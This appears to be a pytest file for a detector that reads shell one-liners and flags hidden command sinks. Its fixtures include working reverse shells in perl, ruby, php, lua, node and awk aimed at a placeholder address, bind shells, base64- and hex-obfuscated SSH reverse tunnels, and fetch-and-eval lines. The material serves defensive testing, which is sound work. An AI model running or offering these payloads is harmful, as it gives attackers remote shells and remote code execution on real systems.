"""One-liners of perl, ruby, php, lua, awk and node: their sinks are found, and harmless ones pass in silence."""

from __future__ import annotations

import pytest

from tests.read.launch.stage import Play

TUNNEL = "ssh -R 7001:h:22 ops@203.0.113.9"
REVERSE = (
    """perl -e 'use Socket;$h="203.0.113.4";$q=4455;socket(X,PF_INET,SOCK_STREAM,6);connect(X,sockaddr_in($q,inet_aton($h)));"""  # noqa: E501
    """open(STDIN,"<&X");open(STDOUT,">&X");exec {"/bin/sh"} "-sh";'""",
    """perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:4455");while(<$c>){print $c `$_`}'""",
    """perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerHost => "203.0.113.4", PeerPort => 4455); system($_) while <$c>'""",  # noqa: E501
    """ruby -rsocket -e 's=TCPSocket.open("203.0.113.4",4455);exec sprintf("/bin/sh -i <&%d >&%d",s,s)'""",
    """ruby -rsocket -e 'c=TCPSocket.new "203.0.113.4", 4455; while l=c.gets; c.puts `#{l}`; end'""",
    """php -r '$s=fsockopen("tcp://203.0.113.4",4455);$p=proc_open("/bin/sh",array(0=>$s,1=>$s,2=>$s),$o);'""",
    """php -r '$s=stream_socket_client("tcp://203.0.113.4:4455");while($l=fgets($s)){fwrite($s,shell_exec($l));}'""",
    """lua -e 'local s=require("socket");local t=assert(s.tcp());t:connect("203.0.113.4",4455);while true do local r=t:receive();"""  # noqa: E501
    """local f=io.popen(r);t:send(f:read("*a"));end'""",
    """node -e 'var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4455,"203.0.113.4",function(){"""  # noqa: E501
    """var h=c.spawn("/bin/sh",["-i"]);s.pipe(h.stdin);h.stdout.pipe(s)})'""",
    """node -e 'let s = require("net").createConnection({host: "203.0.113.4", port: 4455}, () => """
    """require("child_process").spawn("sh", [], {stdio: [s, s, s]}))'""",
    """gawk 'BEGIN{s="/inet/tcp/0/203.0.113.4/4455";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}'""",
)
COMMANDS = (
    "perl -e 'system(\"{}\")'",
    "perl -e 'exec q({})'",
    "perl -e '`{}`'",
    "perl -e 'print qx{{{}}}'",
    'perl -e \'$a="ssh";$b=" -R 7001:h:22 "; system($a.$b."ops\\@203.0.113.9")\'',
    "perl -we 'system(join(\" \", qw(ssh -R 7001:h:22 ops@203.0.113.9)))'",
    "perl -MMIME::Base64 -e 'system(decode_base64(\"c3NoIC1SIDcwMDE6aDoyMiBvcHNAMjAzLjAuMTEzLjk=\"))'",
    'perl -e \'system(pack("H*","737368202d5220373030313a683a3232206f7073403230332e302e3131332e39"))\'',
    "perl -e 'eval \"system(q({}))\"'",
    "perl -ne 'BEGIN{{system(\"{}\")}}' f",
    "ruby -e 'system \"{}\"'",
    "ruby -e 'puts `{}`'",
    "ruby -e '%x({})'",
    "ruby -e 'IO.popen(\"{}\")'",
    'ruby -e \'system("ssh", "-R", "7001:h:22", "ops@203.0.113.9")\'',
    'ruby -e \'exec ["ssh", "-R", "7001:h:22", "ops@203.0.113.9"].join(" ")\'',
    "php -r 'system(\"{}\");'",
    'php -r \'passthru("ssh -R 7001".":h:22 ops@203.0.113.9");\'',
    "php -r '$x=strrev(\"9.311.0.302@spo 22:h:1007 R- hss\"); exec($x);'",
    "php -r 'echo shell_exec(str_rot13(\"ffu -E 7001:u:22 bcf@203.0.113.9\"));'",
    "lua -e 'os.execute(\"{}\")'",
    'lua -e \'local f = io.popen("ssh -R " .. "7001:h:22 ops@203.0.113.9")\'',
    'node -e \'require("child_process").exec("{}")\'',
    'node -e \'require("child_process").spawnSync("ssh", ["-R", "7001:h:22", "ops@203.0.113.9"])\'',
    "node --eval='const {{execSync}} = require(\"child_process\"); execSync(`{}`)'",
    'node -e \'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJzc2ggLVIgNzAwMTpoOjIyIG9wc0AyMDMuMC4xMTMuOSIp", "base64").toString())\'',  # noqa: E501
    "awk 'BEGIN {{ system(\"{}\") }}'",
    "awk '{{ print | \"{}\" }}' f",
    "awk 'BEGIN {{ \"{}\" | getline x }}'",
    "echo 'system(\"{}\")' | perl",
)
HARMLESS = (
    "perl -pe 's/foo|bar/baz/g' f",
    "perl -lane 'print $F[1] if /x|y/' f",
    "perl -i.bak -pe 's{/usr}{/opt}' f",
    "perl -0777 -ne 'print scalar(() = /\"/g)' f",
    "perl -MJSON -e 'print encode_json({a=>1})'",
    "perl -MPOSIX -e 'print strftime(\"%F\", localtime)'",
    "perl -e 'print \"the system is up\\n\"'",
    "perl -Mstrict -we 'my $n = 3; $n++ while $n < 9; print $n'",
    "ruby -e 'puts ARGV.map(&:upcase).join(\"|\")' a b",
    'ruby -ryaml -e \'puts YAML.load_file("x.yml")["v"]\'',
    "ruby -ne 'puts $_ if /system/' log",
    "php -r 'echo json_encode([1,2]), PHP_EOL;'",
    "php -r 'echo ini_get(\"memory_limit\");'",
    "lua -e 'print(string.format(\"%d\", 3))'",
    'node -e \'console.log(JSON.parse(require("fs").readFileSync("p.json")).name)\'',
    "node -p 'process.versions.node'",
    "node -e 'const os=require(\"os\"); console.log(os.cpus().length)'",
    "awk '{print $1}' f",
    "awk -F'|' '/a|b/ {n++} END {print n}' f",
    "awk '$3 > 10 || $4 == \"system\" {print}' f",
    "awk 'NR==FNR{a[$1];next} $1 in a' f g",
    "awk '{while(match($0,/[a-z]+/)){print substr($0,RSTART,RLENGTH);$0=substr($0,RSTART+RLENGTH)}}' f",
    "awk '{print > \"out.txt\"}' f",
)


@pytest.mark.parametrize("line", REVERSE, ids=lambda line: line[:24])
def test_a_shell_on_a_socket(play: Play, line: str) -> None:
    """A connection with a shell beside it is told with host and port, and nothing is left unread."""
    told = play(line)
    assert "net.connect tcp 203.0.113.4 4455" in told
    assert "process.stdio socket 203.0.113.4 4455" in told
    assert not told.gaps


@pytest.mark.parametrize(
    "line",
    [
        """perl -MIO::Socket -e '$s=IO::Socket::INET->new(LocalPort=>4455,Listen=>1);$c=$s->accept;system("sh")'""",
        """ruby -rsocket -e 's=TCPServer.new(4455).accept; exec "/bin/sh", :in=>s, :out=>s'""",
        """php -r '$s=socket_create(2,1,6);socket_bind($s,"0.0.0.0",4455);socket_listen($s);$c=socket_accept($s);system("sh");'""",  # noqa: E501
        """node -e 'require("net").createServer(s=>{let p=require("child_process").spawn("sh");s.pipe(p.stdin)}).listen(4455)'""",  # noqa: E501
    ],
)
def test_a_shell_that_listens(play: Play, line: str) -> None:
    """A bind shell listens, and its shell is tied to the address that it listens on."""
    told = play(line)
    assert "net.listen tcp 0.0.0.0 4455" in told
    assert "process.stdio socket 0.0.0.0 4455" in told


@pytest.mark.parametrize("line", COMMANDS, ids=lambda line: line[:40])
def test_a_command_in_a_literal_is_read(play: Play, line: str) -> None:
    """Whatever quotes, joins or decodes it, the command is an effect."""
    command = TUNNEL.replace("@", "\\@") if "perl" in line else TUNNEL
    told = play(line.format(command) if "{}" in line else line.replace("{{", "{").replace("}}", "}"))
    assert TUNNEL in told
    assert not told.gaps


@pytest.mark.parametrize("line", HARMLESS, ids=lambda line: line[:40])
def test_a_harmless_one_liner_is_one_effect(play: Play, line: str) -> None:
    """Text work has no unit, no gap, and only its own command line."""
    told = play(line)
    assert not told.gaps
    assert not told.units
    assert len(told.lines) == 1


@pytest.mark.parametrize(
    "line",
    [
        'perl -e \'&{"sys"."tem"}("id")\'',
        "perl -e 'eval $x'",
        "ruby -e 'Kernel.send(:system, \"id\")'",
        'php -r \'$f="sys"."tem"; $f("id");\'',
        'lua -e \'os["exe".."cute"]("id")\'',
    ],
)
def test_what_cannot_be_read_is_a_gap(play: Play, line: str) -> None:
    """A sink reached in another way is not silence."""
    assert play(line).gaps or play(line).starting("code.load")


def test_a_command_from_an_argument_is_listed(play: Play) -> None:
    """`system($ARGV[0])` is code of an argument."""
    assert "code.load perl argument" in play("perl -e 'system($ARGV[0])'")


def test_quotes_in_an_expression_do_not_hide_a_sink(play: Play) -> None:
    """A quote inside a regular expression must not make the code behind it look like a string."""
    told = play("perl -e '$x =~ /\"/; system(q(ssh -R 1:h:2 a@b)); $x =~ /\"/'")
    assert "ssh -R 1:h:2 a@b" in told


def test_what_a_one_liner_prints_may_be_run(play: Play) -> None:
    """perl, ruby, php, node and awk as builders of a command for a shell."""
    for line in (
        'perl -e \'print join " ", "s"."sh", "-R", "1:h:2", "a\\@b"\' | sh',
        'ruby -e \'puts ["ssh", "-R 1:h:2", "a@b"].join(" ")\' | sh',
        'php -r \'echo "ss"."h -R 1:h:2 a@b";\' | sh',
        'node -e \'console.log(["ssh", "-R 1:h:2 a@b"].join(" "))\' | sh',
        "awk 'BEGIN{printf \"%c%ch -R 1:h:2 a@b\", 115, 115}' | sh",
    ):
        assert "ssh -R 1:h:2 a@b" in play(line), line


def test_code_that_a_one_liner_fetches_and_evaluates(play: Play) -> None:
    """`eval(file_get_contents(URL))` and its kin are fetched code."""
    assert "code.fetch http://a.example/p php" in play("php -r 'eval(file_get_contents(\"http://a.example/p\"));'")
    told = play('node -e \'require("https").get("https://a.example/j", r => r.on("data", d => eval(d + "")))\'')
    assert "code.fetch https://a.example/j javascript" in told


def test_code_of_other_languages_in_an_argument(play: Play) -> None:
    """A connection with a shell is told in any language; other code with a way out is a gap, without one silent."""
    told = play(
        "crystal eval 'c=Socket.tcp(Socket::Family::INET);c.connect(\"203.0.113.4\",4455);Process.new(x,shell:true)'"
    )
    assert "process.stdio socket 203.0.113.4 4455" in told
    assert play("Rscript -e 'system(\"id\")'").gaps
    assert not play("Rscript -e 'cat(mean(c(1,2)))'").gaps
    assert "ssh -R 1:h:2 a@b" in play('bun -e \'require("child_process").execSync("ssh -R 1:h:2 a@b")\'')
